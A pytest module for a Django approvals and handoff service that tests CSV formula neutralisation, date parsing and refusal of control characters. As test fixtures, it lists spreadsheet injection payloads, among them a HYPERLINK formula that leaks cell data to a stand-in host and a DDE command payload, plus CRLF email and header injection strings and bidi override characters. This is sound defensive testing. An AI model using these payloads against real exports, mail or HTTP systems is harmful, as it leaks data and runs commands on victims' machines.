"""Strict input (issue 34): every CSV export neutralises formulas, every date or time a person or peer types
is read by one parser that refuses what is out of range with the field's name (a 4xx, never a 500, nothing
written), and single-line fields refuse control characters."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.db.models import F
from django.test import Client
from django.utils import timezone

from approvals.models import AuditExport, Request
from approvals.rules import schema_problems
from approvals.services.observation import CurrentProcessOutcome
from incidents.models import Incident, IncidentKind, IncidentSeverity, Replay, ReplayItem
from lib.csv_cells import csv_cell
from outbox.dispatch.dispatcher import handoff_deliver
from outbox.models import DestinationEvent, DestinationHold, Handoff, HandoffState
from outbox.services.operator import handoff_cancel
from tests.builders import approve, deliver, record
from tests.factories import (
    ONBOARDING_PAYLOAD,
    HandoffFactory,
    grant_destination_admin,
    onboarding_world,
)
from tests.reconciliation.test_status_events_api import event, post, signed
from tests.security.test_api_inputs import INTAKE, Case, send, trigger

pytestmark = pytest.mark.django_db(databases=["default", "delivery"])

# What a spreadsheet would run, as the audit found them, and with blanks before them.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
]
# The dates the audit sent, and a year that overflows as soon as it is moved to UTC.
HOSTILE_TIMES = [
    "2030-13-45T00:00",
    "2030-01-01T00:00+25:00",
    "9999-12-31",
    "9999-12-31T23:00-05:00",
]
# What a person may type instead of a time.
UNREADABLE = [*HOSTILE_TIMES, "tomorrow", "2026-12-01T25:00"]


def signed_in(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


def quoted(cells: list[str]) -> bool:
    """Each cell as written to the file starts with the single quote that keeps it from running."""
    return all(cell.startswith("'") and cell[1:] in FORMULAS for cell in cells)


@pytest.fixture
def world():
    return onboarding_world()


@pytest.mark.parametrize("text", [*FORMULAS, "\x00=1+1"])
def test_a_cell_that_would_run_as_a_formula_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme Ltd", "2026-12-01T10:00:00+00:00", "", "a=b", "'=1"])
def test_a_cell_that_would_not_run_is_written_as_it_is(text):
    assert csv_cell(text) == text


# --- Every CSV export ------------------------------------------------------------------------------


@pytest.fixture
def cancelled_with_formulas(world):
    """A handoff cancelled once per formula (the reason is what the audit trail exports)."""
    handoff = approve(world)
    for reason in FORMULAS:
        handoff_cancel(handoff_id=handoff.pk, actor=world["olga"], reason=reason)
    return world


def _reasons_in(text: str) -> list[str]:
    rows = csv.DictReader(io.StringIO(text))
    return [
        row["reason"] for row in rows if row["kind"] == "handoff_event" and row["actor"] == "olga"
    ]


def _today() -> dict:
    start = timezone.now() - timedelta(hours=1)
    return {"since": start.isoformat(), "until": (start + timedelta(days=1)).isoformat()}


def test_the_consoles_audit_csv_quotes_every_formula(cancelled_with_formulas):
    data = {"workspace": "7", "format": "csv", **_today()}
    answer = signed_in(cancelled_with_formulas["olga"]).post("/audit/export", data)
    assert answer.status_code == 200
    reasons = _reasons_in(answer.content.decode())
    assert len(reasons) == len(FORMULAS) and quoted(reasons)


def test_the_audit_export_commands_csv_quotes_every_formula(cancelled_with_formulas, tmp_path):
    out = tmp_path / "audit.csv"
    period = _today()
    call_command(
        "audit_export",
        "--workspace=7",
        f"--from={period['since']}",
        f"--until={period['until']}",
        "--as=olga",
        f"--output={out}",
        stderr=io.StringIO(),
    )
    with out.open(newline="") as written:  # no newline translation: a CR in a cell stays one
        reasons = _reasons_in(written.read())
    assert len(reasons) == len(FORMULAS) and quoted(reasons)


def test_the_archive_exports_csv_quotes_every_formula():
    for n, formula in enumerate(FORMULAS, start=1):
        handoff = HandoffFactory(
            number=n, state=HandoffState.DELIVERED, destination_id=formula, source_ref=formula
        )
        Handoff.objects.filter(pk=handoff.pk).update(
            updated_at=F("updated_at") - timedelta(days=40)
        )
    call_command("archive_settled", stdout=io.StringIO())
    out = io.StringIO()
    call_command(
        "export_archive", "--workspace", "7", "--format", "csv", stdout=out, stderr=io.StringIO()
    )
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == len(FORMULAS)
    assert quoted([r["task_id"] for r in rows]) and quoted([r["source_ref"] for r in rows])


def test_the_replay_csv_quotes_every_formula(world):
    incident = Incident.objects.create(
        cause="failures:7", kind=IncidentKind.FAILURES, severity=IncidentSeverity.QUEUE, title="t"
    )
    replay = Replay.objects.create(incident=incident, workspace_ids=[7], actor=world["olga"])
    for position, formula in enumerate(FORMULAS, start=1):
        ReplayItem.objects.create(
            replay=replay,
            position=position,
            handoff_id=position,
            action_key=f"onboarding:7:{position}:1",
            destination="receiver",
            workspace_id=7,
            task_id=formula,
            note=formula,
        )
    answer = signed_in(world["olga"]).get(f"/incidents/replays/{replay.pk}/items.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode())))
    assert len(rows) == len(FORMULAS)
    assert quoted([r["receiver_task"] for r in rows]) and quoted([r["preview_note"] for r in rows])


# --- Every date and time typed ------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["starts_at", "ends_at"])
@pytest.mark.parametrize("value", UNREADABLE)
def test_a_window_out_of_range_is_a_400_naming_the_field_and_writes_nothing(world, field, value):
    olga = signed_in(grant_destination_admin(world["olga"]))
    data = {"reason": "db upgrade", "starts_at": "2099-01-01 10:00", "ends_at": "2099-01-01 11:00"}
    answer = olga.post("/destinations/receiver/window", {**data, field: value})
    assert answer.status_code == 400
    assert f"Not scheduled: {field} ".encode() in answer.content
    assert not DestinationEvent.objects.exists()
    assert not DestinationHold.objects.exists()


@pytest.mark.parametrize("field", ["since", "until"])
@pytest.mark.parametrize("value", UNREADABLE)
def test_an_audit_period_out_of_range_is_a_400_naming_the_field_and_records_nothing(
    world, field, value
):
    data = {"workspace": "7", "format": "csv", "since": "2026-12-01", field: value}
    answer = signed_in(world["olga"]).post("/audit/export", data)
    assert answer.status_code == 400
    label = {"since": "from", "until": "until"}[field]
    assert f"<li>{label} ".encode() in answer.content
    assert not AuditExport.objects.exists()


@pytest.mark.parametrize("value", HOSTILE_TIMES)
def test_the_audit_export_command_refuses_a_date_out_of_range_naming_it(world, value):
    with pytest.raises(CommandError, match="^from "):
        call_command("audit_export", "--workspace=7", f"--from={value}", "--as=olga")
    assert not AuditExport.objects.exists()


@pytest.mark.parametrize("option", ["--since", "--until"])
@pytest.mark.parametrize("value", HOSTILE_TIMES)
def test_the_archive_export_command_refuses_a_date_out_of_range_naming_it(option, value):
    with pytest.raises(CommandError, match=f"^{option} "):
        call_command("export_archive", "--workspace", "7", option, value, stdout=io.StringIO())


@pytest.mark.parametrize("value", HOSTILE_TIMES)
def test_a_list_cursor_out_of_range_is_a_400_naming_it(world, value):
    answer = signed_in(world["alice"]).get("/approvals/", {"after": f"{value}_1"})
    assert answer.status_code == 400
    assert b"after is not a cursor" in answer.content


@pytest.mark.parametrize("value", HOSTILE_TIMES)
def test_the_handoffs_command_refuses_a_cursor_out_of_range_naming_it(world, value):
    with pytest.raises(CommandError, match="after is not a cursor"):
        call_command("handoffs", "list", "--as=olga", f"--after={value}_1", stdout=io.StringIO())


@pytest.mark.parametrize("value", [*HOSTILE_TIMES, "2026-12-01T16:25:28+14:30"])
def test_a_status_event_time_out_of_range_is_a_422_naming_it_and_writes_nothing(client, value):
    delivered = deliver(record(42))
    body = json.dumps(event(delivered, occurred_at=value))
    answer = post(client, body, **signed(body))
    assert answer.status_code == 422
    assert any(r.startswith("data.occurred_at ") for r in answer.json()["reasons"])
    assert Handoff.objects.get(pk=delivered.pk).work_status != "done"


# --- Single-line fields refuse control characters ---------------------------------------------------

# What the audit sent, and what else a single-line field must not hold (a NUL is refused before: by the
# console's NUL guard, by the APIs' strict JSON).
ONE_LINE_BREAKERS = [
    "Acme Ltd\r\nBcc: victim@evil.example",
    "Acme\nLtd",
    "Acme\x1bLtd",
    "Acme\tLtd",
    "Acme\u2028Ltd",
    "Acme\u2029Ltd",
    "Acme \u202eLtd",
    "Acme \u2066Ltd",
]
FILLED = {
    "workspace": "7",
    "client_name": "Contoso Ltd",
    "contact_email": "ops@contoso.example",
    "plan": "enterprise",
    "notes": "",
}


@pytest.mark.parametrize("value", ONE_LINE_BREAKERS)
@pytest.mark.parametrize("field", ["client_name", "contact_email"])
def test_the_request_form_refuses_a_control_character_at_its_field_and_records_nothing(
    world, field, value
):
    before = Request.objects.count()
    answer = signed_in(world["bob"]).post("/approvals/new/", {**FILLED, field: value})
    assert answer.status_code == 422
    assert f'id="id_{field}-error">must hold no line breaks'.encode() in answer.content
    assert Request.objects.count() == before


def test_the_request_forms_notes_keep_their_line_breaks(world):
    notes = "first line\r\nsecond line\twith a tab"
    answer = signed_in(world["bob"]).post("/approvals/new/", {**FILLED, "notes": notes})
    assert answer.status_code == 302
    assert Request.objects.get(payload__client_name="Contoso Ltd").payload["notes"] == notes


@pytest.mark.parametrize("notes", ["a\x00b", "a\x1bb", "look \u202eevil"])
def test_the_request_forms_notes_refuse_nul_and_bidi_overrides(world, notes):
    before = Request.objects.count()
    answer = signed_in(world["bob"]).post("/approvals/new/", {**FILLED, "notes": notes})
    assert answer.status_code == 422
    assert Request.objects.count() == before


@pytest.fixture
def needs_attention(world) -> Handoff:
    """Needs attention: the receiver refuses a blank client name the source rules let through."""
    handoff = approve(world, number=50, payload={**ONBOARDING_PAYLOAD, "client_name": "   "})
    handoff_deliver(handoff_id=handoff.pk)
    handoff.refresh_from_db()
    assert handoff.state == HandoffState.NEEDS_ATTENTION
    return handoff


@pytest.mark.parametrize("value", ONE_LINE_BREAKERS)
def test_the_operators_correction_refuses_a_control_character_and_changes_nothing(
    world, needs_attention, value
):
    answer = signed_in(world["olga"]).post(
        f"/handoffs/{needs_attention.pk}/correct",
        {"field_client_name": value, "field_plan": "standard", "reason": "fix the name"},
        HTTP_HX_REQUEST="true",
    )
    assert answer.status_code == 422
    assert b"must hold no line breaks or control characters" in answer.content
    needs_attention.refresh_from_db()
    assert needs_attention.state == HandoffState.NEEDS_ATTENTION
    assert not Request.objects.filter(number=50, revision=2).exists()


def _intake(client, document: dict):
    return send(client, Case("strict", INTAKE, json.dumps(document)))


@pytest.mark.parametrize("value", ONE_LINE_BREAKERS)
def test_the_intake_refuses_a_control_character_in_the_payload_naming_the_field(
    world, client, value
):
    before = Request.objects.count()
    payload = {**ONBOARDING_PAYLOAD, "client_name": value}
    answer = _intake(client, json.loads(trigger(payload=payload)))
    assert answer.status_code == 422
    body = answer.json()
    assert body["outcome"] == "rejected_at_intake"
    assert any(r.startswith("payload.client_name: must hold no line") for r in body["reasons"])
    assert Request.objects.count() == before


def test_the_intake_refuses_a_line_break_in_the_reference_naming_it(world, client):
    answer = _intake(client, json.loads(trigger(reference="crm-1\r\nX-Injected: 1")))
    assert answer.status_code == 422
    assert any(r.startswith("reference: must hold no line") for r in answer.json()["reasons"])
    assert not Request.objects.filter(workspace_id=7, number__gt=42).exists()


def test_the_intake_keeps_line_breaks_in_the_notes(world, client):
    payload = {**ONBOARDING_PAYLOAD, "notes": "first line\nsecond line"}
    answer = _intake(client, json.loads(trigger(payload=payload)))
    assert answer.status_code in (200, 201, 202), answer.content
    assert Request.objects.filter(payload__notes="first line\nsecond line").exists()


@pytest.mark.parametrize("rules_field", ["client_name", "contact_email", "reference_code"])
def test_every_single_line_string_field_of_published_rules_refuses_a_line_break(rules_field):
    schema = {
        "type": "object",
        "properties": {
            rules_field: {"type": "string", "maxLength": 254},
            "nested": {"type": "object", "properties": {rules_field: {"type": "string"}}},
            "long_text": {"type": "string", "maxLength": 5000},
        },
    }
    document = {
        rules_field: "a\r\nb",
        "nested": {rules_field: "a\nb"},
        "long_text": "a\r\nb",
    }
    problems = schema_problems(schema, document)
    expected = {rules_field, f"nested.{rules_field}"}
    if "email" not in rules_field:
        # A string longer than 200 characters that is not an address is lines of text.
        expected = {f"nested.{rules_field}"}
    assert {p.partition(":")[0] for p in problems} == expected


def test_an_observed_outcomes_receiver_and_reference_are_one_line_and_its_outcome_lines():
    entry = CurrentProcessOutcome(
        key="onboarding:7:42:1",
        task_created=True,
        receiver="crm\r\nX: 1",
        outcome="created by hand\nticket attached",
        reference="T-1 \u202e",
    )
    assert [p.partition(":")[0] for p in entry.problems()] == ["receiver", "reference"]
